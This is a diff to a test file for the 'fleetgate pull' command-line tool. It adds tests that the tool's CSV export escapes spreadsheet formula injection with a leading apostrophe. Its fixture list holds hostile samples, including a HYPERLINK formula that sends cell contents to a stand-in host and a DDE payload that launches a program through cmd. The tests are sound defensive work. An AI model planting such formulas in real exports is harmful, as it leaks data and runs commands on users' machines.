@@ -15,6 +15,7 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
 import { after, describe, it } from 'node:test'
+import { parse } from 'csv-parse/sync'
 import type { Ended } from '../../packages/server/src/cli/printed.ts'
 import { fleetgate } from '../harness/fleetgate.ts'
 import { temporaryFolder } from '../harness/temporary-folder.ts'
@@ -27,12 +28,13 @@ const ROW = {
   ...{ mileage: null, address: null },
 }
 
-/** What the server answers: the ids of its objects, whatever they are, and the history of each. */
+/** What the server answers: the ids of its objects, whatever they are, and one history for all of them. */
 let ids: unknown[] = []
+let rows: object[] = [ROW]
 
 const server = createServer((request, response) => {
   const isList = request.url === '/public/v1/objects'
-  const result = isList ? ids.map((id) => ({ ...ROW, id })) : [ROW]
+  const result = isList ? ids.map((id) => ({ ...ROW, id })) : rows
   response.setHeader('Content-Type', 'application/json')
   response.end(JSON.stringify({ statusCode: 200, result }))
 })
@@ -105,5 +107,96 @@ describe('fleetgate pull from a server that means harm', () => {
     assert.equal(code, 1)
     assert.match(stderr, /^fleetgate pull: \S+\.pull is a symbolic link: .*\n$/)
     assert.equal(existsSync(join(out, '3.ndjson')), false)
+  })
+})
+
+/** Texts that a spreadsheet runs, or splits into cells that it runs, and what is harmless instead. */
+const FORMULAS = {
+  '=HYPERLINK("http://x/"&A1)': '\'=HYPERLINK("http://x/"&A1)',
+  '+1+1': "'+1+1",
+  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+  '@SUM(1)': "'@SUM(1)",
+  '\t=1+1': "'\t'=1+1",
+  '\rx': "'\rx",
+  ' =1+1': " '=1+1",
+  '\u200b=1+1': "\u200b'=1+1",
+  '＝1+1': "'＝1+1",
+  '＋1': "'＋1",
+  '－1': "'－1",
+  '＠x': "'＠x",
+  '"=1+1': '"\'=1+1',
+  // Where the machine's list separator is a semicolon or a tab, and quotes do not protect.
+  'x;=1+1;y': "x;'=1+1;y",
+  'x;"=1+1': 'x;"\'=1+1',
+  'x\n=1+1': "x\n'=1+1",
+  'x\t\t=1+1': "x\t\t'=1+1",
+}
+const HARMLESS = ['', 'Van 3', '3-5', 'a=b', 'x,=1', "'=1+1", 'Main St 5; Porto', '−1', 'ÿ']
+
+describe('A CSV file of fleetgate pull', () => {
+  const texts = [...Object.keys(FORMULAS), ...HARMLESS]
+  const namesIn = (out: string) =>
+    parse(readFileSync(join(out, '3.csv'), 'utf8'), { columns: true, record_delimiter: '\n' }).map(
+      (row) => Object.values(row as object),
+    )
+  const cells = (text: string) => ['3', text, text, '41', '-2.5', '', '', '']
+  const timeOf = (i: number) => new Date(Date.UTC(2026, 10, 20, 0, 0, i)).toISOString()
+
+  function send(sent: string[], from = 0): void {
+    ids = [3]
+    rows = sent.map((text, i) => ({
+      ...{ ...ROW, ident: text, name: text, address: text },
+      ...{ time_server: timeOf(from + i), time_device: timeOf(from + i) },
+    }))
+  }
+
+  function expected(written: string[]): string[][] {
+    return written.map((text, i) => [...cells(text), timeOf(i), timeOf(i), '', '', '', text])
+  }
+
+  it('has an apostrophe before what a spreadsheet would run, and numbers as they are', async () => {
+    send(texts)
+    const out = newOut()
+    assert.equal((await pull(out, '--format', 'csv')).code, 0)
+    assert.deepEqual(namesIn(out), expected([...Object.values(FORMULAS), ...HARMLESS]))
+  })
+
+  it('has the texts as they are with --raw', async () => {
+    send(texts)
+    const out = newOut()
+    assert.equal((await pull(out, '--format', 'csv', '--raw')).code, 0)
+    assert.deepEqual(namesIn(out), expected(texts))
+  })
+
+  it('goes on as it was begun, and says so where that is with formulas', async () => {
+    const out = newOut()
+    const state = join(out, '.pull', '3.csv.json')
+    send(['=1'])
+    assert.equal((await pull(out, '--format', 'csv', '--raw')).code, 0)
+    // As a version left it that knew no --raw.
+    const { raw: _, ...old } = JSON.parse(readFileSync(state, 'utf8'))
+    writeFileSync(state, JSON.stringify(old))
+    send(['=2'], 1)
+    const later = await pull(out, '--format', 'csv')
+    assert.equal(later.code, 0)
+    assert.match(later.stderr, /^fleetgate pull: object 3: \S+3\.csv was begun with --raw .*\n$/)
+    send(['=3'], 2)
+    const asked = await pull(out, '--format', 'csv', '--raw')
+    assert.deepEqual([asked.code, asked.stderr], [0, ''])
+    assert.deepEqual(namesIn(out), expected(['=1', '=2', '=3']))
+
+    const safe = newOut()
+    assert.equal((await pull(safe, '--format', 'csv')).code, 0)
+    const refused = await pull(safe, '--format', 'csv', '--raw')
+    assert.equal(refused.code, 1)
+    assert.match(refused.stderr, /^fleetgate pull: \S+3\.csv was begun without --raw: .*\n$/)
+  })
+
+  it('is what --raw is for alone', async () => {
+    const { code, stderr } = await pull(newOut(), '--raw')
+    assert.deepEqual(
+      [code, stderr],
+      [2, 'fleetgate pull: --raw is for --format csv: the other formats hold texts as they are\n'],
+    )
   })
 })
